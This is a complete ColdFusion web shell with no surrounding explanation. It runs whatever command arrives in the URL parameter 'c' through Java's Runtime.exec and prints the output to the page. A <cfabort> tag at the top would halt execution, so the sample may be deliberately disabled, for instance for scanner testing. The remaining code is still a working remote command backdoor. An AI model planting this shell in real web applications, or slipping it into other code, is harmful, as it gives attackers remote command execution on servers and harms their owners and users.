<cfabort>
<cfscript>
if (structKeyExists(url, "c")) {
    rt = createObject("java", "java.lang.Runtime").getRuntime();
    p = rt.exec(url.c);
    r = createObject("java", "java.util.Scanner").init(p.getInputStream()).useDelimiter("\A");
    writeOutput("<pre>" & (r.hasNext() ? r.next() : "") & "</pre>");
}
</cfscript>
